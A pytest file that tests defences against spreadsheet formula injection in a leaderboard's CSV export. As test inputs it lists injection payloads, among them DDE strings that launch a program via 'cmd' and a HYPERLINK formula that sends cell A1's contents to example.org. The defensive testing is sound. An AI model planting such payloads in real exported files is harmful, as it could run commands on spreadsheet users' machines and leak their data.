"""Leaderboards as files: what participants wrote does nothing in a spreadsheet."""

from __future__ import annotations

import csv
import json
from dataclasses import fields
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from ramp_database.leaderboard import LeaderboardRow
from ramp_engine.export import inert, write_leaderboard

FORMULAS = [
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    '=HYPERLINK("http://example.org/?"&A1)',
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text(text: str) -> None:
    assert inert(text) == "'" + text


@pytest.mark.parametrize("value", [-0.5, 3, None, True, "-0.5", "+1e-3", "-inf", "blue", "a=b", ""])
def test_numbers_and_harmless_texts_stay(value: object) -> None:
    assert inert(value) is value


def test_the_csv_of_a_leaderboard_holds_no_formula_and_its_json_what_was_written(
    tmp_path: Path,
) -> None:
    values: dict[str, Any] = {field.name: None for field in fields(LeaderboardRow)}
    values |= {
        "rank": 1,
        "team": "=cmd|' /C calc'!A0",
        "submission": "@SUM(1),2",
        "score": -0.25,
        "scores": {"r2": {"bag": -0.25}},
        "submitted_at": datetime(2026, 11, 21, tzinfo=UTC),
    }
    as_json, as_csv = write_leaderboard([LeaderboardRow(**values)], tmp_path / "board")
    with as_csv.open(newline="") as file:
        (row,) = csv.DictReader(file)
    assert (row["team"], row["submission"]) == ("'=cmd|' /C calc'!A0", "'@SUM(1),2")
    assert (row["score"], row["scores.r2.bag"]) == ("-0.25", "-0.25")
    (record,) = json.loads(as_json.read_text())
    assert (record["team"], record["submission"]) == (values["team"], values["submission"])
